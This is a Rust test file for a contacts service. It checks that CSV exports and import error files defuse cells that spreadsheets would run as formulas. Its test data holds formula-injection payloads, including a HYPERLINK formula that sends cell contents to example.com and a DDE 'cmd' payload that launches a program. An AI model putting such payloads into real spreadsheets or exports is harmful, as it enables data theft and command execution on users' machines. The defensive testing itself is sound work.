//! No CSV file that is written has a cell that a spreadsheet would run, and what was guarded is
//! read as what it was.

use std::fmt::Write as _;

use serde_json::{Value, json};

use super::{errors_of, import};
use crate::support::server::{Client, TestServer};

/// Texts that a spreadsheet takes for formulas, each in its own way.
const FORMULAS: [&str; 10] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\u{ff1d}1+1",
    "\u{ff0b}1+1",
    "\u{ff0d}1+1",
    "\u{ff20}SUM(A1)",
    "=HYPERLINK(\"https://example.com/?\"&A1,\"x\")",
    "-2+3+cmd|' /C calc'!A0",
];

/// Every cell of a file, looked at by rules of its own: only amounts and phone numbers may begin
/// with a sign.
#[track_caller]
fn assert_harmless(csv: &str, formulas: usize) {
    let mut rows = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    let mut guarded = 0;
    for row in rows.records() {
        for cell in &row.unwrap() {
            guarded += usize::from(cell.starts_with('\''));
            let starts = |signs: &[char]| cell.trim_start().starts_with(signs);
            let is_sign = starts(&['=', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
                || cell.starts_with(['\t', '\r', '\n']);
            let is_phone = cell.chars().all(|c| c.is_ascii_digit() || " |+x".contains(c));
            assert!(!is_sign, "{cell:?} in {csv}");
            let is_number = cell.parse::<f64>().is_ok() || is_phone && cell.len() > 10;
            assert!(!starts(&['+', '-']) || is_number, "{cell:?} in {csv}");
        }
    }
    assert!(guarded >= formulas, "{guarded} guards in {csv}");
}

fn text(client: &Client, path: &str) -> String {
    String::from_utf8(client.get(path).expect(200).body).unwrap()
}

fn ended(client: &Client, path: &str) -> Value {
    loop {
        let run = client.get(path).expect(200).json;
        if !run["finished_at"].is_null() {
            return run;
        }
        std::thread::yield_now();
    }
}

#[test]
fn no_file_that_is_written_has_a_formula_in_it() {
    let server = TestServer::start();
    for (at, formula) in FORMULAS.iter().enumerate() {
        server.create(&json!({"name": format!("{formula} Smith"), "company": formula,
            "notes": formula, "tags": [formula], "title": formula,
            "phones": [format!("+120255501{at:02}"), "+12025550199"],
            "custom_fields": {"text": formula}}));
    }
    server.search("", "&refresh=wait");
    let columns = "id,display_name,company,notes,tags,title,phones,cf.text";
    let export = text(&server, &format!("/api/v1/contacts/export?columns={columns}"));
    assert_harmless(&export, 6 * FORMULAS.len());
    assert_harmless(&text(&server, "/api/v1/contacts/export"), 6 * FORMULAS.len());
    assert_harmless(&text(&server, "/api/v1/audit/export?format=csv"), 5 * FORMULAS.len());
    for view in ["pairs", "groups"] {
        let body = json!({"format": "csv", "view": view, "min_probability": 0.01});
        let run = server.post("/api/v1/duplicates/runs", &body).expect(202);
        let run = ended(&server, run.header("location").unwrap());
        assert_harmless(&text(&server, run["report_url"].as_str().unwrap()), 0);
    }
    let mut list = String::from("name,birthday,phone,=1+1\n");
    for formula in FORMULAS {
        let cell = formula.replace('"', "\"\"");
        let _ = writeln!(list, "\"{cell}\",\"{cell}\",\"{cell}\",\"{cell}\"");
    }
    let job = import(&server, list.as_bytes(), &json!({"strict": true}));
    let errors = errors_of(&server, &job);
    assert_harmless(&errors, 3 * FORMULAS.len());
}

#[test]
fn rejected_rows_are_read_as_what_they_were() {
    let server = TestServer::start();
    let list = "name,title,notes,email\n\
        =Ada,'=Boss,\"=\"\"007\"\"\",not an address\n\
        ＝Ben,'＝Boss,''quoted,not an address\n";
    let job = import(&server, list.as_bytes(), &json!({"strict": true}));
    assert_eq!(job["counts"]["errors"], 2, "{job}");
    let errors = errors_of(&server, &job).replace("not an address", "a@example.com");
    // As often as somebody imports what was rejected.
    let job = import(&server, errors.as_bytes(), &json!({"on_duplicate": "create"}));
    assert_eq!(job["counts"]["imported"], 2, "{job} {errors}");
    let found = server.search("", "&refresh=wait&sort=created_at").json["contacts"].take();
    let shown = |at: usize, name: &str| found[at][name].as_str().unwrap().to_owned();
    assert_eq!(
        [shown(0, "display_name"), shown(0, "title"), shown(0, "notes")],
        ["=Ada", "=Boss", "007"]
    );
    assert_eq!(
        [shown(1, "display_name"), shown(1, "title"), shown(1, "notes")],
        ["＝Ben", "＝Boss", "''quoted"]
    );
}

#[test]
fn exports_of_guarded_values_come_back_as_they_were() {
    let server = TestServer::start();
    let odd = ["'=1+1", "''=1+1", "'007", "'t Hart", "＝1+1", "=\"1\"", "-5", "+5", "' =1", "-"];
    for (at, text) in odd.iter().chain(&FORMULAS).enumerate() {
        server.create(&json!({"name": format!("Person{at}"), "notes": text, "title": text,
            "custom_fields": {"text": text}}));
    }
    let seen = |server: &Client| -> Vec<[Value; 3]> {
        let page = server.search("", "&refresh=wait&sort=created_at&per_page=100").json;
        let contacts = page["contacts"].as_array().unwrap().clone();
        let shown = |one: &Value| {
            [one["notes"].clone(), one["title"].clone(), one["custom_fields"]["text"].clone()]
        };
        contacts.iter().map(shown).collect()
    };
    let before = seen(&server);
    for format in ["csv", "jsonl"] {
        let list = server.get(&format!("/api/v1/contacts/export?format={format}")).expect(200).body;
        let second = server.organization(format);
        let job = import(&second, &list, &json!({}));
        assert_eq!(job["counts"]["errors"], 0, "{job}");
        let again = seen(&second);
        assert_eq!(again.len(), before.len());
        for (one, other) in before.iter().zip(&again) {
            // A hyphen alone is how lists write nothing.
            if one[0] != "-" || format == "jsonl" {
                assert_eq!(one, other, "{format}");
            }
        }
        let job = import(&server, &list, &json!({}));
        assert_eq!(job["counts"]["unchanged"], before.len(), "{format}: {job}");
    }
}
